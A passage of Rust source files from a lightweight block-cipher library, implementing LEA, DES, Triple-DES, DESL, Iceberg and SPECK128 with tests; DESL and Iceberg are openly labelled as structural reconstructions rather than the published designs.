                    t[1] = t[1].wrapping_add(d.rotate_left(i + 1)).rotate_left(3);
                    t[2] = t[2].wrapping_add(d.rotate_left(i + 2)).rotate_left(6);
                    t[3] = t[3].wrapping_add(d.rotate_left(i + 3)).rotate_left(11);
                    t[4] = t[4].wrapping_add(d.rotate_left(i + 4)).rotate_left(13);
                    t[5] = t[5].wrapping_add(d.rotate_left(i + 5)).rotate_left(17);
                    rks.push([t[0], t[1], t[2], t[3], t[4], t[5]]);
                }
                (28, rks)
            }
            32 => {
                let mut t = [
                    words[0], words[1], words[2], words[3], words[4], words[5], words[6], words[7],
                ];
                let mut rks = Vec::with_capacity(32);
                for i in 0..32u32 {
                    let d = DELTA[(i % 8) as usize];
                    let iu = i as usize;
                    t[(6 * iu) % 8] = t[(6 * iu) % 8]
                        .wrapping_add(d.rotate_left(i))
                        .rotate_left(1);
                    t[(6 * iu + 1) % 8] = t[(6 * iu + 1) % 8]
                        .wrapping_add(d.rotate_left(i + 1))
                        .rotate_left(3);
                    t[(6 * iu + 2) % 8] = t[(6 * iu + 2) % 8]
                        .wrapping_add(d.rotate_left(i + 2))
                        .rotate_left(6);
                    t[(6 * iu + 3) % 8] = t[(6 * iu + 3) % 8]
                        .wrapping_add(d.rotate_left(i + 3))
                        .rotate_left(11);
                    t[(6 * iu + 4) % 8] = t[(6 * iu + 4) % 8]
                        .wrapping_add(d.rotate_left(i + 4))
                        .rotate_left(13);
                    t[(6 * iu + 5) % 8] = t[(6 * iu + 5) % 8]
                        .wrapping_add(d.rotate_left(i + 5))
                        .rotate_left(17);
                    rks.push([
                        t[(6 * iu) % 8],
                        t[(6 * iu + 1) % 8],
                        t[(6 * iu + 2) % 8],
                        t[(6 * iu + 3) % 8],
                        t[(6 * iu + 4) % 8],
                        t[(6 * iu + 5) % 8],
                    ]);
                }
                (32, rks)
            }
            _ => unreachable!("validated by check_key"),
        };

        Ok(Lea {
            round_keys,
            rounds,
            key_bits: key.len() * 8,
        })
    }

    /// Key size in bits this instance was constructed with.
    pub fn key_bits(&self) -> usize {
        self.key_bits
    }
}

impl BlockCipher for Lea {
    fn block_size(&self) -> usize {
        16
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut x = [0u32; 4];
        for (i, item) in x.iter_mut().enumerate() {
            *item = u32::from_le_bytes(block[4 * i..4 * i + 4].try_into().expect("4 bytes"));
        }
        for rk in self.round_keys.iter().take(self.rounds) {
            let next = [
                (x[0] ^ rk[0]).wrapping_add(x[1] ^ rk[1]).rotate_left(9),
                (x[1] ^ rk[2]).wrapping_add(x[2] ^ rk[3]).rotate_right(5),
                (x[2] ^ rk[4]).wrapping_add(x[3] ^ rk[5]).rotate_right(3),
                x[0],
            ];
            x = next;
        }
        for (i, item) in x.iter().enumerate() {
            block[4 * i..4 * i + 4].copy_from_slice(&item.to_le_bytes());
        }
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut x = [0u32; 4];
        for (i, item) in x.iter_mut().enumerate() {
            *item = u32::from_le_bytes(block[4 * i..4 * i + 4].try_into().expect("4 bytes"));
        }
        for rk in self.round_keys.iter().take(self.rounds).rev() {
            let x0 = x[3];
            let x1 = (x[0].rotate_right(9)).wrapping_sub(x0 ^ rk[0]) ^ rk[1];
            let x2 = (x[1].rotate_left(5)).wrapping_sub(x1 ^ rk[2]) ^ rk[3];
            let x3 = (x[2].rotate_left(3)).wrapping_sub(x2 ^ rk[4]) ^ rk[5];
            x = [x0, x1, x2, x3];
        }
        for (i, item) in x.iter().enumerate() {
            block[4 * i..4 * i + 4].copy_from_slice(&item.to_le_bytes());
        }
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "LEA",
            key_bits: &[128, 192, 256],
            block_bits: 128,
            structure: Structure::GeneralizedFeistel,
            rounds: self.rounds,
            fidelity: SpecFidelity::Faithful,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn key_lengths_give_table3_round_counts() {
        assert_eq!(Lea::new(&[0u8; 16]).unwrap().info().rounds, 24);
        assert_eq!(Lea::new(&[0u8; 24]).unwrap().info().rounds, 28);
        assert_eq!(Lea::new(&[0u8; 32]).unwrap().info().rounds, 32);
    }

    #[test]
    fn key_length_changes_ciphertext() {
        let mut a = [9u8; 16];
        let mut b = [9u8; 16];
        Lea::new(&[1u8; 16]).unwrap().encrypt_block(&mut a).unwrap();
        Lea::new(&[1u8; 24]).unwrap().encrypt_block(&mut b).unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn properties() {
        for len in [16usize, 24, 32] {
            let lea = Lea::new(&vec![0x3Cu8; len]).unwrap();
            proptests::roundtrip(&lea);
            proptests::avalanche(&lea);
        }
        proptests::key_sensitivity(|k| Box::new(Lea::new(&k[..16]).unwrap()));
    }
}
