//! DES, Triple-DES (EDE3), and DESL.
//!
//! Fidelity:
//! * [`Des`][] / [`TripleDes`][]: [`SpecFidelity::Exact`](crate::SpecFidelity::Exact)
//!   — verified against the classical FIPS-46 worked example, and 3DES is
//!   additionally checked via the `K1 = K2 = K3 ⇒ 3DES ≡ DES` identity.
//! * [`Desl`][]: [`SpecFidelity::Structural`](crate::SpecFidelity::Structural)
//!   — DESL is "DES with the initial/final permutations removed and all
//!   eight S-boxes replaced by a single carefully chosen one"; the published
//!   DESL S-box was not available offline, so this implementation uses DES
//!   S-box S1 in all positions. The structure (Feistel, 54-bit effective key
//!   through PC-1/PC-2, 16 rounds) matches the paper's Table III row.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

/// Initial permutation (bit indices are 1-based positions in the input, as
/// printed in FIPS-46).
const IP: [u8; 64] = [
    58, 50, 42, 34, 26, 18, 10, 2, 60, 52, 44, 36, 28, 20, 12, 4, 62, 54, 46, 38, 30, 22, 14, 6,
    64, 56, 48, 40, 32, 24, 16, 8, 57, 49, 41, 33, 25, 17, 9, 1, 59, 51, 43, 35, 27, 19, 11, 3, 61,
    53, 45, 37, 29, 21, 13, 5, 63, 55, 47, 39, 31, 23, 15, 7,
];

/// Expansion E: 32 → 48 bits.
const E: [u8; 48] = [
    32, 1, 2, 3, 4, 5, 4, 5, 6, 7, 8, 9, 8, 9, 10, 11, 12, 13, 12, 13, 14, 15, 16, 17, 16, 17, 18,
    19, 20, 21, 20, 21, 22, 23, 24, 25, 24, 25, 26, 27, 28, 29, 28, 29, 30, 31, 32, 1,
];

/// Permutation P applied to the S-box output.
const P: [u8; 32] = [
    16, 7, 20, 21, 29, 12, 28, 17, 1, 15, 23, 26, 5, 18, 31, 10, 2, 8, 24, 14, 32, 27, 3, 9, 19,
    13, 30, 6, 22, 11, 4, 25,
];

/// Permuted choice 1: 64-bit key → 56 bits.
const PC1: [u8; 56] = [
    57, 49, 41, 33, 25, 17, 9, 1, 58, 50, 42, 34, 26, 18, 10, 2, 59, 51, 43, 35, 27, 19, 11, 3, 60,
    52, 44, 36, 63, 55, 47, 39, 31, 23, 15, 7, 62, 54, 46, 38, 30, 22, 14, 6, 61, 53, 45, 37, 29,
    21, 13, 5, 28, 20, 12, 4,
];

/// Permuted choice 2: 56 bits → 48-bit round key.
const PC2: [u8; 48] = [
    14, 17, 11, 24, 1, 5, 3, 28, 15, 6, 21, 10, 23, 19, 12, 4, 26, 8, 16, 7, 27, 20, 13, 2, 41, 52,
    31, 37, 47, 55, 30, 40, 51, 45, 33, 48, 44, 49, 39, 56, 34, 53, 46, 42, 50, 36, 29, 32,
];

/// Left-shift schedule for the key halves.
const SHIFTS: [u8; 16] = [1, 1, 2, 2, 2, 2, 2, 2, 1, 2, 2, 2, 2, 2, 2, 1];

/// The eight DES S-boxes, each 4 rows × 16 columns (FIPS-46 layout).
const SBOXES: [[u8; 64]; 8] = [
    [
        14, 4, 13, 1, 2, 15, 11, 8, 3, 10, 6, 12, 5, 9, 0, 7, 0, 15, 7, 4, 14, 2, 13, 1, 10, 6, 12,
        11, 9, 5, 3, 8, 4, 1, 14, 8, 13, 6, 2, 11, 15, 12, 9, 7, 3, 10, 5, 0, 15, 12, 8, 2, 4, 9,
        1, 7, 5, 11, 3, 14, 10, 0, 6, 13,
    ],
    [
        15, 1, 8, 14, 6, 11, 3, 4, 9, 7, 2, 13, 12, 0, 5, 10, 3, 13, 4, 7, 15, 2, 8, 14, 12, 0, 1,
        10, 6, 9, 11, 5, 0, 14, 7, 11, 10, 4, 13, 1, 5, 8, 12, 6, 9, 3, 2, 15, 13, 8, 10, 1, 3, 15,
        4, 2, 11, 6, 7, 12, 0, 5, 14, 9,
    ],
    [
        10, 0, 9, 14, 6, 3, 15, 5, 1, 13, 12, 7, 11, 4, 2, 8, 13, 7, 0, 9, 3, 4, 6, 10, 2, 8, 5,
        14, 12, 11, 15, 1, 13, 6, 4, 9, 8, 15, 3, 0, 11, 1, 2, 12, 5, 10, 14, 7, 1, 10, 13, 0, 6,
        9, 8, 7, 4, 15, 14, 3, 11, 5, 2, 12,
    ],
    [
        7, 13, 14, 3, 0, 6, 9, 10, 1, 2, 8, 5, 11, 12, 4, 15, 13, 8, 11, 5, 6, 15, 0, 3, 4, 7, 2,
        12, 1, 10, 14, 9, 10, 6, 9, 0, 12, 11, 7, 13, 15, 1, 3, 14, 5, 2, 8, 4, 3, 15, 0, 6, 10, 1,
        13, 8, 9, 4, 5, 11, 12, 7, 2, 14,
    ],
    [
        2, 12, 4, 1, 7, 10, 11, 6, 8, 5, 3, 15, 13, 0, 14, 9, 14, 11, 2, 12, 4, 7, 13, 1, 5, 0, 15,
        10, 3, 9, 8, 6, 4, 2, 1, 11, 10, 13, 7, 8, 15, 9, 12, 5, 6, 3, 0, 14, 11, 8, 12, 7, 1, 14,
        2, 13, 6, 15, 0, 9, 10, 4, 5, 3,
    ],
    [
        12, 1, 10, 15, 9, 2, 6, 8, 0, 13, 3, 4, 14, 7, 5, 11, 10, 15, 4, 2, 7, 12, 9, 5, 6, 1, 13,
        14, 0, 11, 3, 8, 9, 14, 15, 5, 2, 8, 12, 3, 7, 0, 4, 10, 1, 13, 11, 6, 4, 3, 2, 12, 9, 5,
        15, 10, 11, 14, 1, 7, 6, 0, 8, 13,
    ],
    [
        4, 11, 2, 14, 15, 0, 8, 13, 3, 12, 9, 7, 5, 10, 6, 1, 13, 0, 11, 7, 4, 9, 1, 10, 14, 3, 5,
        12, 2, 15, 8, 6, 1, 4, 11, 13, 12, 3, 7, 14, 10, 15, 6, 8, 0, 5, 9, 2, 6, 11, 13, 8, 1, 4,
        10, 7, 9, 5, 0, 15, 14, 2, 3, 12,
    ],
    [
        13, 2, 8, 4, 6, 15, 11, 1, 10, 9, 3, 14, 5, 0, 12, 7, 1, 15, 13, 8, 10, 3, 7, 4, 12, 5, 6,
        11, 0, 14, 9, 2, 7, 11, 4, 1, 9, 12, 14, 2, 0, 6, 10, 13, 15, 3, 5, 8, 2, 1, 14, 7, 4, 10,
        8, 13, 15, 12, 9, 0, 3, 5, 6, 11,
    ],
];

/// Applies a 1-based bit permutation table: output bit i (MSB-first) is
/// input bit `table[i]`.
fn permute(input: u64, input_bits: u32, table: &[u8]) -> u64 {
    let mut out = 0u64;
    for &pos in table {
        out <<= 1;
        out |= (input >> (input_bits - pos as u32)) & 1;
    }
    out
}

/// The Feistel function f(R, K) with a pluggable S-box set.
fn feistel(r: u32, subkey: u64, sboxes: &[[u8; 64]; 8]) -> u32 {
    let expanded = permute(r as u64, 32, &E) ^ subkey;
    let mut out = 0u32;
    for (i, sbox) in sboxes.iter().enumerate() {
        let chunk = ((expanded >> (42 - 6 * i)) & 0x3F) as u8;
        let row = ((chunk & 0x20) >> 4) | (chunk & 1);
        let col = (chunk >> 1) & 0x0F;
        out = (out << 4) | sbox[(row * 16 + col) as usize] as u32;
    }
    permute(out as u64, 32, &P) as u32
}

fn key_schedule(key: &[u8]) -> [u64; 16] {
    let key64 = u64::from_be_bytes(key.try_into().expect("8-byte key"));
    let permuted = permute(key64, 64, &PC1);
    let mut c = ((permuted >> 28) & 0x0FFF_FFFF) as u32;
    let mut d = (permuted & 0x0FFF_FFFF) as u32;
    let mut subkeys = [0u64; 16];
    for (round, &shift) in SHIFTS.iter().enumerate() {
        c = ((c << shift) | (c >> (28 - shift as u32))) & 0x0FFF_FFFF;
        d = ((d << shift) | (d >> (28 - shift as u32))) & 0x0FFF_FFFF;
        let cd = ((c as u64) << 28) | d as u64;
        subkeys[round] = permute(cd, 56, &PC2);
    }
    subkeys
}

fn des_core(
    block: u64,
    subkeys: &[u64; 16],
    decrypt: bool,
    with_ip: bool,
    sboxes: &[[u8; 64]; 8],
) -> u64 {
    let permuted = if with_ip {
        permute(block, 64, &IP)
    } else {
        block
    };
    let mut l = (permuted >> 32) as u32;
    let mut r = permuted as u32;
    for i in 0..16 {
        let k = if decrypt { subkeys[15 - i] } else { subkeys[i] };
        let next_r = l ^ feistel(r, k, sboxes);
        l = r;
        r = next_r;
    }
    // Final swap: preoutput is R16 || L16.
    let preoutput = ((r as u64) << 32) | l as u64;
    if with_ip {
        // FP is the inverse of IP; compute it by inverting the table.
        let mut fp = [0u8; 64];
        for (i, &pos) in IP.iter().enumerate() {
            fp[pos as usize - 1] = (i + 1) as u8;
        }
        permute(preoutput, 64, &fp)
    } else {
        preoutput
    }
}

/// The Data Encryption Standard (56-bit effective key, 64-bit block).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Des};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let des = Des::new(&[0x13, 0x34, 0x57, 0x79, 0x9B, 0xBC, 0xDF, 0xF1])?;
/// let mut block = 0x0123456789ABCDEFu64.to_be_bytes();
/// des.encrypt_block(&mut block)?;
/// assert_eq!(u64::from_be_bytes(block), 0x85E813540F0AB405);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Des {
    subkeys: [u64; 16],
}

impl Des {
    /// Creates a DES instance from an 8-byte key (parity bits ignored).
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 8 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("DES", &[8], key)?;
        Ok(Des {
            subkeys: key_schedule(key),
        })
    }
}

impl BlockCipher for Des {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block.copy_from_slice(&des_core(v, &self.subkeys, false, true, &SBOXES).to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block.copy_from_slice(&des_core(v, &self.subkeys, true, true, &SBOXES).to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "DES",
            key_bits: &[56],
            block_bits: 64,
            structure: Structure::Feistel,
            rounds: 16,
            fidelity: SpecFidelity::Exact,
        }
    }
}

/// Triple-DES in EDE3 mode (three independent 8-byte keys, 48 total rounds).
#[derive(Debug, Clone)]
pub struct TripleDes {
    k1: Des,
    k2: Des,
    k3: Des,
}

impl TripleDes {
    /// Creates a 3DES (EDE3) instance from a 24-byte key `K1 || K2 || K3`.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 24 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("3DES", &[24], key)?;
        Ok(TripleDes {
            k1: Des::new(&key[0..8])?,
            k2: Des::new(&key[8..16])?,
            k3: Des::new(&key[16..24])?,
        })
    }
}

impl BlockCipher for TripleDes {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        self.k1.encrypt_block(block)?;
        self.k2.decrypt_block(block)?;
        self.k3.encrypt_block(block)
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        self.k3.decrypt_block(block)?;
        self.k2.encrypt_block(block)?;
        self.k1.decrypt_block(block)
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "3DES",
            key_bits: &[168],
            block_bits: 64,
            structure: Structure::Feistel,
            rounds: 48,
            fidelity: SpecFidelity::Exact,
        }
    }
}

/// DESL: DES lightweight variant — no initial/final permutation, a single
/// S-box in all eight positions.
///
/// Structural reconstruction (see module docs): the published DESL S-box was
/// unavailable offline, so DES S1 stands in for it.
#[derive(Debug, Clone)]
pub struct Desl {
    subkeys: [u64; 16],
    sboxes: [[u8; 64]; 8],
}

impl Desl {
    /// Creates a DESL instance from an 8-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 8 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("DESL", &[8], key)?;
        Ok(Desl {
            subkeys: key_schedule(key),
            sboxes: [SBOXES[0]; 8],
        })
    }
}

impl BlockCipher for Desl {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block
            .copy_from_slice(&des_core(v, &self.subkeys, false, false, &self.sboxes).to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block.copy_from_slice(&des_core(v, &self.subkeys, true, false, &self.sboxes).to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "DESL",
            key_bits: &[56],
            block_bits: 64,
            structure: Structure::Feistel,
            rounds: 16,
            fidelity: SpecFidelity::Structural,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn fips46_worked_example() {
        // The classical worked example distributed with FIPS-46 teaching
        // material: K = 133457799BBCDFF1, P = 0123456789ABCDEF.
        let des = Des::new(&0x133457799BBCDFF1u64.to_be_bytes()).unwrap();
        let mut block = 0x0123456789ABCDEFu64.to_be_bytes();
        des.encrypt_block(&mut block).unwrap();
        assert_eq!(u64::from_be_bytes(block), 0x85E813540F0AB405);
        des.decrypt_block(&mut block).unwrap();
        assert_eq!(u64::from_be_bytes(block), 0x0123456789ABCDEF);
    }

    #[test]
    fn triple_des_with_equal_keys_degenerates_to_des() {
        let single = 0x133457799BBCDFF1u64.to_be_bytes();
        let mut triple_key = Vec::new();
        triple_key.extend_from_slice(&single);
        triple_key.extend_from_slice(&single);
        triple_key.extend_from_slice(&single);

        let des = Des::new(&single).unwrap();
        let tdes = TripleDes::new(&triple_key).unwrap();

        let mut a = 0xDEADBEEF01234567u64.to_be_bytes();
        let mut b = a;
        des.encrypt_block(&mut a).unwrap();
        tdes.encrypt_block(&mut b).unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn triple_des_with_distinct_keys_differs_from_des() {
        let tdes = TripleDes::new(&(0..24).collect::<Vec<u8>>()).unwrap();
        let des = Des::new(&(0..8).collect::<Vec<u8>>()).unwrap();
        let mut a = [0x42u8; 8];
        let mut b = a;
        tdes.encrypt_block(&mut a).unwrap();
        des.encrypt_block(&mut b).unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn desl_differs_from_des() {
        let key = 0x133457799BBCDFF1u64.to_be_bytes();
        let des = Des::new(&key).unwrap();
        let desl = Desl::new(&key).unwrap();
        let mut a = [0x42u8; 8];
        let mut b = a;
        des.encrypt_block(&mut a).unwrap();
        desl.encrypt_block(&mut b).unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn properties() {
        let des = Des::new(&[0x13, 0x34, 0x57, 0x79, 0x9B, 0xBC, 0xDF, 0xF1]).unwrap();
        proptests::roundtrip(&des);
        proptests::avalanche(&des);
        proptests::key_sensitivity(|k| Box::new(Des::new(&k[..8]).unwrap()));

        let tdes = TripleDes::new(&(0..24).collect::<Vec<u8>>()).unwrap();
        proptests::roundtrip(&tdes);
        proptests::avalanche(&tdes);

        let desl = Desl::new(&[0x55u8; 8]).unwrap();
        proptests::roundtrip(&desl);
        proptests::avalanche(&desl);
        proptests::key_sensitivity(|k| Box::new(Desl::new(&k[..8]).unwrap()));
    }
}
