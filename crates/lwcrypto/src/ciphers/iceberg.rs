//! Iceberg: 64-bit block, 128-bit key, 16-round involutional SPN designed
//! for reconfigurable hardware.
//!
//! Fidelity: [`SpecFidelity::Structural`](crate::SpecFidelity::Structural) —
//! the published involutive S-box and bit permutation were not reliably
//! available offline. The reconstruction preserves Iceberg's defining
//! property — every layer is an involution, so decryption equals encryption
//! with the round keys reversed — using a deterministically generated
//! involutive 8-bit S-box and an involutive 64-bit bit permutation, with
//! the Table III parameters (64-bit block, 128-bit key, 16 rounds).

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const ROUNDS: usize = 16;

/// Builds a fixed involutive 8-bit S-box: a deterministic
/// Fisher–Yates-style pairing of {0..255} driven by a simple LCG, with
/// every element swapped with its partner (so S(S(x)) = x, no fixed
/// points).
fn involutive_sbox() -> [u8; 256] {
    let mut pool: Vec<u8> = (0..=255).collect();
    let mut sbox = [0u8; 256];
    let mut state = 0x1234_5678_9ABC_DEF0u64;
    let mut next = |bound: usize| -> usize {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((state >> 33) as usize) % bound
    };
    while pool.len() >= 2 {
        let a = pool.swap_remove(next(pool.len()));
        let b = pool.swap_remove(next(pool.len()));
        sbox[a as usize] = b;
        sbox[b as usize] = a;
    }
    sbox
}

/// Involutive 64-bit bit permutation: swap bit i with PERM(i) where
/// PERM(i) = 63 - ((i * 5) % 64) paired symmetrically. We construct it as
/// a self-inverse pairing derived from the same LCG.
fn involutive_bit_perm() -> [u8; 64] {
    let mut pool: Vec<u8> = (0..64).collect();
    let mut perm = [0u8; 64];
    let mut state = 0x0FED_CBA9_8765_4321u64;
    let mut next = |bound: usize| -> usize {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((state >> 33) as usize) % bound
    };
    while pool.len() >= 2 {
        let a = pool.swap_remove(next(pool.len()));
        let b = pool.swap_remove(next(pool.len()));
        perm[a as usize] = b;
        perm[b as usize] = a;
    }
    perm
}

fn apply_bit_perm(perm: &[u8; 64], x: u64) -> u64 {
    let mut out = 0u64;
    for (i, &p) in perm.iter().enumerate() {
        out |= ((x >> i) & 1) << p;
    }
    out
}

/// The Iceberg block cipher (structural reconstruction).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Iceberg};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let ice = Iceberg::new(&[0u8; 16])?;
/// let mut block = [0u8; 8];
/// ice.encrypt_block(&mut block)?;
/// ice.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 8]);
/// # Ok(())
/// # }
/// ```
#[derive(Clone)]
pub struct Iceberg {
    round_keys: [u64; ROUNDS + 1],
    sbox: [u8; 256],
    perm: [u8; 64],
}

impl std::fmt::Debug for Iceberg {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Iceberg").finish_non_exhaustive()
    }
}

impl Iceberg {
    /// Creates an Iceberg instance from a 16-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 16 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("Iceberg", &[16], key)?;
        let hi = u64::from_be_bytes(key[0..8].try_into().expect("8 bytes"));
        let lo = u64::from_be_bytes(key[8..16].try_into().expect("8 bytes"));
        // Expand full-width round keys with a SplitMix64 chain seeded by
        // both key halves. Involutional rounds demand strong round keys:
        // with weak (near-constant) keys the involutive core's orbit swings
        // back toward the plaintext every second round.
        let mut round_keys = [0u64; ROUNDS + 1];
        let mut state = hi ^ 0x9E37_79B9_7F4A_7C15;
        for (i, rk) in round_keys.iter_mut().enumerate() {
            state = state
                .wrapping_add(lo.rotate_left(i as u32))
                .wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            *rk = z ^ (z >> 31);
        }
        Ok(Iceberg {
            round_keys,
            sbox: involutive_sbox(),
            perm: involutive_bit_perm(),
        })
    }

    fn substitute(&self, x: u64) -> u64 {
        let mut bytes = x.to_be_bytes();
        for b in bytes.iter_mut() {
            *b = self.sbox[*b as usize];
        }
        u64::from_be_bytes(bytes)
    }

    /// The involutive round core: substitution, bit permutation,
    /// substitution. Because S and P are involutions, so is the whole core.
    fn core(&self, x: u64) -> u64 {
        self.substitute(apply_bit_perm(&self.perm, self.substitute(x)))
    }
}

impl BlockCipher for Iceberg {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let mut x = u64::from_be_bytes(block.try_into().expect("checked"));
        for rk in self.round_keys.iter().take(ROUNDS) {
            x = self.core(x ^ rk);
        }
        x ^= self.round_keys[ROUNDS];
        block.copy_from_slice(&x.to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let mut x = u64::from_be_bytes(block.try_into().expect("checked"));
        // Involutional structure: run the same rounds with reversed keys.
        x ^= self.round_keys[ROUNDS];
        for rk in self.round_keys.iter().take(ROUNDS).rev() {
            x = self.core(x) ^ rk;
        }
        block.copy_from_slice(&x.to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "Iceberg",
            key_bits: &[128],
            block_bits: 64,
            structure: Structure::Spn,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Structural,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn sbox_is_an_involution_without_fixed_points() {
        let sbox = involutive_sbox();
        for x in 0..=255u8 {
            assert_eq!(sbox[sbox[x as usize] as usize], x);
            assert_ne!(sbox[x as usize], x);
        }
    }

    #[test]
    fn bit_perm_is_an_involution() {
        let perm = involutive_bit_perm();
        for i in 0..64 {
            assert_eq!(perm[perm[i] as usize] as usize, i);
        }
    }

    #[test]
    fn round_core_is_an_involution() {
        let ice = Iceberg::new(&[0x21u8; 16]).unwrap();
        for x in [0u64, 1, u64::MAX, 0x0123_4567_89AB_CDEF] {
            assert_eq!(ice.core(ice.core(x)), x);
        }
    }

    #[test]
    fn properties() {
        let ice = Iceberg::new(&[0x21u8; 16]).unwrap();
        proptests::roundtrip(&ice);
        proptests::avalanche(&ice);
        proptests::key_sensitivity(|k| Box::new(Iceberg::new(&k[..16]).unwrap()));
    }
}
