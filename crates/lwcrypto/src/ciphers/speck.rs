//! SPECK128/128: 128-bit block ARX cipher from the NSA lightweight family,
//! recommended by the NIST lightweight-cryptography report the paper cites.
//!
//! Fidelity: [`SpecFidelity::Exact`](crate::SpecFidelity::Exact) — verified
//! against the SPECK128/128 vector from the designers' paper.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const ROUNDS: usize = 32;

fn round(x: &mut u64, y: &mut u64, k: u64) {
    *x = x.rotate_right(8).wrapping_add(*y) ^ k;
    *y = y.rotate_left(3) ^ *x;
}

fn inv_round(x: &mut u64, y: &mut u64, k: u64) {
    *y = (*y ^ *x).rotate_right(3);
    *x = (*x ^ k).wrapping_sub(*y).rotate_left(8);
}

/// The SPECK128/128 block cipher.
///
/// Block layout: `x = block[0..8]` and `y = block[8..16]`, both big-endian,
/// matching the hex word order printed in the designers' test vectors.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Speck128};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let speck = Speck128::new(&[0u8; 16])?;
/// let mut block = [0u8; 16];
/// speck.encrypt_block(&mut block)?;
/// speck.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 16]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Speck128 {
    round_keys: [u64; ROUNDS],
}

impl Speck128 {
    /// Creates a SPECK128/128 instance from a 16-byte key.
    ///
    /// Key layout: `l0 = key[0..8]`, `k0 = key[8..16]`, both big-endian.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 16 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("SPECK128/128", &[16], key)?;
        let mut l = u64::from_be_bytes(key[0..8].try_into().expect("8 bytes"));
        let mut k = u64::from_be_bytes(key[8..16].try_into().expect("8 bytes"));
        let mut round_keys = [0u64; ROUNDS];
        for (i, rk) in round_keys.iter_mut().enumerate() {
            *rk = k;
            // The key schedule reuses the round function with the round
            // index as "key".
            round(&mut l, &mut k, i as u64);
        }
        Ok(Speck128 { round_keys })
    }
}

impl BlockCipher for Speck128 {
    fn block_size(&self) -> usize {
        16
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut x = u64::from_be_bytes(block[0..8].try_into().expect("8 bytes"));
        let mut y = u64::from_be_bytes(block[8..16].try_into().expect("8 bytes"));
        for &rk in &self.round_keys {
